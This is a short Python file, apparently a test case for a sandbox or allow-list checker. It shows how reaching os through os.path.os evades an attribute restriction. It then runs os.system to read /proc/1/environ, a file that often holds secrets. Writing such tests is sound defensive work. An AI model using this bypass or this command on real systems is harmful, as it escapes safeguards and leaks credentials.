# attack-class: 4
# title: os.path.os.system
# why: os.path is an allowed attribute of os, but os.path.os is os itself

import os

print(os.path.join("/workspace", "out.txt"))
os.path.os.system("cat /proc/1/environ")
